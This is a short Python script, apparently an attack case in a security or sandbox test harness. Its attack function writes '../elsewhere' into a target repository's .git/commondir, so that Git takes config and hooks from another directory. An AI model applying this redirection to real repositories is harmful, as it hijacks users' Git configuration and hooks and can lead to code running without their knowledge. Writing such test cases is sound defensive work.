# Git takes config and hooks from the directory that this file names.
from inside import run


def attack(target):
    with open(f"{target.work}/.git/commondir", "w") as file:
        file.write("../elsewhere\n")


run(attack)
